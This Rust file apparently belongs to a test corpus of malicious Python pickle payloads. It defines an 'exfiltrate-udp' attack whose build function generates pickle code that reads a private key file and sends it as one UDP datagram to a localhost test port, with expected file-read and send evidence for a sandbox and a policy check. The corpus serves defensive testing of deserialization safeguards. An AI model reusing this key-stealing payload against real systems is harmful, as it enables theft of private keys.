//! A private key is read and sent in one UDP datagram.

use super::*;

/// A key is sent by UDP.
pub const ATTACK: Attack = Attack {
    id: "exfiltrate-udp",
    title: "a private key sent by UDP",
    summary: "The pickle reads a private key and sends it as one datagram. There is no \
              connection that could be refused, and no answer is needed.",
    severity: Severity::Critical,
    targets: Targets::Python(Loader::ALL),
    techniques: &[
        techniques::PRIVATE_KEYS,
        techniques::EXFILTRATION_OVER_UNENCRYPTED_NON_C2_PROTOCOL,
        techniques::NON_APPLICATION_LAYER_PROTOCOL,
        techniques::EXFILTRATION_VIA_CYBER_MEANS,
    ],
    cwe: &[502, 200],
    references: &[
        Reference {
            title: "PyTorch: the compromised dependency torchtriton",
            url: "https://pytorch.org/blog/compromised-nightly-dependency/",
        },
        Reference {
            title: "Python documentation: socket.sendto",
            url: "https://docs.python.org/3/library/socket.html#socket.socket.sendto",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Received(KEY_MARK)],
        policy: &[
            Evidence { kind: EventKind::FileRead, text: KEY },
            Evidence { kind: EventKind::Send, text: "127.0.0.1:47002" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let key = payload::quoted(&scene.path(KEY));
    // Without the key the connection is tried all the same.
    let source = format!(
        r"
import socket
try:
    with open({key}) as opened:
        stolen = opened.read()
except OSError:
    stolen = 'unreadable\n'
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.sendto(stolen.encode(), ('127.0.0.1', {UDP_PORT}))
sender.close()
"
    );
    payload::program(ATTACK.id, target, &source)
}
